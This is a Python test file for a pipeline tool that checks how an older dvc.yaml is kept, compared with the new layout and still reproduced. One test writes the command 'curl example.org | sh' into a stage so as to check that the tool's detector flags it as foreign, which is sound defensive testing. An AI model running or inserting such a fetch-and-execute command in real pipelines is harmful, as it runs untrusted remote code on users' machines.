"""A project's dvc.yaml beside the road of this prep: what is offered, and what goes on working."""

import shutil

import pytest
import yaml
from conftest import write_params, write_pictures

from pipeline.checks.road import tell_differences, tell_road
from pipeline.commands.init import init_project

OLDER = {  # as prep 0.1.0 had it
    "train": {
        "foreach": "${experiments}",
        "do": {
            "cmd": "prep train --experiment ${key}",
            "deps": ["processed/experiments/${key}.json"],
            "params": ["train"],
            "outs": [{"processed/runs/${key}": {"persist": True}}],
        },
    },
    "evaluate": {
        "foreach": "${experiments}",
        "do": {
            "cmd": "prep evaluate --experiment ${key}",
            "deps": ["processed/split.csv", "processed/runs/${key}"],
            "params": ["train"],
            "outs": ["processed/scores/${key}"],
        },
    },
}


@pytest.fixture
def older(tmp_path):
    """Make a project whose dvc.yaml trains and evaluates each experiment by itself."""
    folder = tmp_path / "project"
    init_project(folder, "blank")
    for empty in ("first", "second"):
        shutil.rmtree(folder / "raw/pictures" / empty)
    write_params(folder)
    write_pictures(folder)
    road = yaml.safe_load((folder / "dvc.yaml").read_text())
    road["stages"] |= OLDER
    (folder / "dvc.yaml").write_text(yaml.safe_dump(road, sort_keys=False))
    return folder


def test_an_older_road_is_kept_and_the_new_one_offered(older):
    before = (older / "dvc.yaml").read_bytes()
    said = init_project(older, "blank")
    assert (older / "dvc.yaml").read_bytes() == before
    assert "stages train differ" in said
    assert "delete dvc.yaml and run prep init ." in said
    assert "one stage, train, trains and tests all experiments" in said
    (older / "dvc.yaml").unlink()
    assert "differ" not in init_project(older, "blank")
    assert list(tell_road(older)) == []


def test_what_an_older_road_runs_is_no_strangers_doing(older):
    assert not any("isn't yours" in sentence for sentence in tell_differences(older))
    road = yaml.safe_load((older / "dvc.yaml").read_text())
    road["stages"]["evaluate"]["do"]["cmd"] = "curl example.org | sh"
    (older / "dvc.yaml").write_text(yaml.safe_dump(road))
    assert any("isn't yours" in sentence for sentence in tell_differences(older))


@pytest.mark.slow
def test_an_older_road_goes_on_working(older):
    import os
    import subprocess
    import sys
    from pathlib import Path

    place = f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}"
    done = subprocess.run(
        [sys.executable, "-m", "dvc", "repro", "compare"],
        cwd=older, env=os.environ | {"PATH": place}, capture_output=True, text=True, check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    for name in ("none", "flip", "rotate"):
        assert (older / f"processed/scores/{name}/metrics.json").exists()
    assert "evaluate@flip" in (older / "dvc.lock").read_text()
    assert (older / "processed/ablation.md").exists()
